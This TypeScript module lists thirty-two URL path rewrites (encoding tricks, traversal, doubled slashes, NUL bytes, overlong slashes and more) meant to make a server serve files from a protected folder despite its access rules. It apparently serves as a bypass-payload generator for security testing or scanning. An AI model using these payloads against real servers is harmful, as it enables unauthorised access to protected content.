/** A way to rewrite a path so that a careless server serves the file although its access rules do not match the path. */
export type Spelling = { name: string; spell(path: string): string };

const changeFirst = (path: string, change: (segment: string) => string): string =>
  path.replace(/^\/([^/]*)/, (_, segment) => `/${change(segment)}`);
const changeRest = (path: string, change: (rest: string) => string): string =>
  path.replace(/^(\/[^/]*)(.*)$/, (_, start, tail) => start + change(tail));
const percent = (letter: string): string => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`;

/**
 * Thirty-two spellings. They accept paths that start with a slash and have at least two segments, the first of which is the protected
 * folder.
 */
export const spellings: readonly Spelling[] = [
  { name: 'as it is', spell: (path) => path },
  { name: 'upper case folder', spell: (path) => changeFirst(path, (segment) => segment.toUpperCase()) },
  {
    name: 'capital folder',
    spell: (path) => changeFirst(path, (segment) => segment.slice(0, 1).toUpperCase() + segment.slice(1)),
  },
  { name: 'upper case path', spell: (path) => path.toUpperCase() },
  { name: 'first letter encoded', spell: (path) => changeFirst(path, (segment) => percent(segment) + segment.slice(1)) },
  {
    name: 'last letter encoded',
    spell: (path) => changeFirst(path, (segment) => segment.slice(0, -1) + percent(segment.slice(-1))),
  },
  { name: 'whole folder encoded', spell: (path) => changeFirst(path, (segment) => [...segment].map(percent).join('')) },
  {
    name: 'encoded twice',
    spell: (path) => changeFirst(path, (segment) => percent(segment).replace('%', '%25') + segment.slice(1)),
  },
  { name: 'slash encoded', spell: (path) => changeRest(path, (tail) => tail.replace('/', '%2f')) },
  { name: 'slash encoded twice', spell: (path) => changeRest(path, (tail) => tail.replace('/', '%252f')) },
  { name: 'leading slash doubled', spell: (path) => `/${path}` },
  { name: 'leading slash trebled', spell: (path) => `//${path}` },
  { name: 'slash inside doubled', spell: (path) => changeRest(path, (tail) => `/${tail}`) },
  { name: 'dot segment first', spell: (path) => `/.${path}` },
  { name: 'dot segment inside', spell: (path) => changeRest(path, (tail) => `/.${tail}`) },
  { name: 'dot segment encoded', spell: (path) => `/%2e${path}` },
  { name: 'up and down again', spell: (path) => `/assets/..${path}` },
  { name: 'up and down, encoded', spell: (path) => `/assets/%2e%2e${path}` },
  { name: 'up and down, slash encoded', spell: (path) => `/assets/..%2f${path.slice(1)}` },
  { name: 'up from nowhere', spell: (path) => `/nowhere/../${path.slice(1)}` },
  { name: 'up beyond the root', spell: (path) => `/../..${path}` },
  { name: 'backslash', spell: (path) => `/\\${path.slice(1)}` },
  { name: 'backslash encoded', spell: (path) => changeRest(path, (tail) => tail.replace('/', '%5c')) },
  { name: 'parameter after the folder', spell: (path) => changeFirst(path, (segment) => `${segment};a=b`) },
  { name: 'parameter at the end', spell: (path) => `${path};.css` },
  { name: 'NUL at the end', spell: (path) => `${path}%00` },
  { name: 'NUL after the folder', spell: (path) => changeFirst(path, (segment) => `${segment}%00`) },
  { name: 'space after the folder', spell: (path) => changeFirst(path, (segment) => `${segment}%20`) },
  { name: 'dot after the folder', spell: (path) => changeFirst(path, (segment) => `${segment}.`) },
  {
    name: 'full-width letter',
    spell: (path) =>
      changeFirst(path, (segment) => encodeURIComponent(String.fromCharCode(segment.charCodeAt(0) + 0xfee0)) + segment.slice(1)),
  },
  { name: 'overlong slash', spell: (path) => changeRest(path, (tail) => tail.replace('/', '%c0%af')) },
  { name: 'query of another type', spell: (path) => `${path}?x=/assets/style.css` },
];
